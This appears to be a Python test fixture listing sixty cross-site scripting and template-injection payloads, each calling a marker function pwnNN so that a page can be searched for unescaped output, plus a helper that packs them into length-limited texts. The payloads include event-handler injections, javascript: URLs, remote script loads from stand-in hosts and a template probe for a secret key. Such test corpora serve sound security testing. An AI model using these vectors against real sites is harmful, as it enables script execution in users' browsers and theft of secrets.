"""Sixty ways of writing a script where words belong. Each calls `pwn…`, so that a page can be searched for it."""

CORPUS = (
    "<script>pwn01()</script>",
    "</script><script>pwn02()</script>",
    "<ScRiPt>pwn03()</sCrIpT>",
    "<script src=//pwn04.example></script>",
    "<img src=x onerror=pwn05()>",
    "<img src='x' onerror='pwn06()'>",
    '"><img src=x onerror=pwn07()>',
    "'><img src=x onerror=pwn08()>",
    '" onmouseover="pwn09()',
    "' onmouseover='pwn10()",
    "` onmouseover=`pwn11()",
    "x onfocus=pwn12() autofocus",
    '" autofocus onfocus="pwn13()',
    "<svg onload=pwn14()>",
    "<svg><script>pwn15()</script></svg>",
    "<svg/onload=pwn16()>",
    '<svg><a xlink:href="javascript:pwn17()">x</a></svg>',
    "<svg><animate onbegin=pwn18() attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:pwn19()'>x",
    "<body onload=pwn20()>",
    "<iframe src=javascript:pwn21()>",
    '<iframe srcdoc="<script>pwn22()</script>">',
    "<object data=javascript:pwn23()>",
    "<embed src=javascript:pwn24()>",
    "<a href=javascript:pwn25()>x</a>",
    "<a href='java&#115;cript:pwn26()'>x</a>",
    "<a href=' javascript:pwn27()'>x</a>",
    "javascript:pwn28()",
    "JaVaScRiPt:pwn29()",
    "data:text/html,<script>pwn30()</script>",
    "[x](javascript:pwn31())",
    '![x](x"onerror="pwn32())',
    "<style>@import 'javascript:pwn33()';</style>",
    "<p style=background:url(javascript:pwn34())>",
    "<link rel=stylesheet href=//pwn35.example>",
    "<meta http-equiv=refresh content=0;url=javascript:pwn36()>",
    "<base href=//pwn37.example/>",
    "<form action=javascript:pwn38()><button>x",
    "<button formaction=javascript:pwn39()>x",
    "<input onfocus=pwn40() autofocus>",
    "<details open ontoggle=pwn41()>",
    "<video><source onerror=pwn42()></video>",
    "<audio src=x onerror=pwn43()>",
    "<marquee onstart=pwn44()>",
    "<isindex type=image src=1 onerror=pwn45()>",
    "<textarea autofocus onfocus=pwn46()>",
    "</textarea><script>pwn47()</script>",
    "</title><script>pwn48()</script>",
    "--><script>pwn49()</script>",
    "]]><script>pwn50()</script>",
    "{{constructor.constructor('pwn51()')()}}",
    "{% debug %}{{ settings.SECRET_KEY }}pwn52",
    "${pwn53()}",
    "#{pwn54()}",
    "&lt;script&gt;pwn55()&lt;/script&gt;",
    "&#60;script&#62;pwn56()&#60;/script&#62;",
    "\\u003cscript\\u003epwn57()\\u003c/script\\u003e",
    "<template><script>pwn58()</script></template>",
    "<x onclick=pwn59() hx-get=//pwn59.example hx-on:load=pwn59()>",
    "<noscript><p title='</noscript><img src=x onerror=pwn60()>'>",
)


def pieces(room: int) -> list[str]:
    """The whole corpus in as few texts of at most `room` characters as it takes; what does not fit at all is left."""
    texts, text = [], ""
    for attack in CORPUS:
        if len(attack) > room:
            continue
        if text and len(text) + 1 + len(attack) > room:
            texts, text = [*texts, text], ""
        text = f"{text} {attack}".strip()
    return [*texts, text] if text else texts
